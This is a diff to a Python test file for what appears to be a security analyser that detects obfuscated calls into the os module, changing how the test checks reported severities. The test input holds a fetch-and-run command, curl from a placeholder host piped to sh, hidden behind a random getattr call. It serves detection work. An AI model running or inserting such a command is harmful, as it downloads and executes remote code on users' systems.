@@ -76,9 +76,10 @@ def test_a_function_of_the_system_by_a_name_that_nobody_can_work_out() -> None:
     text = (
         "import random\ngetattr(os, random.choice(dir(os)))('curl http://a.example.invalid/x | sh')"
     )
-    told = [one for one in unreadable.run(program(text)) if isinstance(one, Hit)]
+    told = [one.severity for one in unreadable.run(program(text)) if isinstance(one, Hit)]
     # the names of the module are taken all at once as well
-    assert sorted(one.severity for one in told) == [Severity.MEDIUM, Severity.HIGH]
+    assert set(told) == {Severity.MEDIUM, Severity.HIGH}
+    assert len(told) == 2
 
 
 def test_an_object_that_is_a_path_is_opened_as_one() -> None:
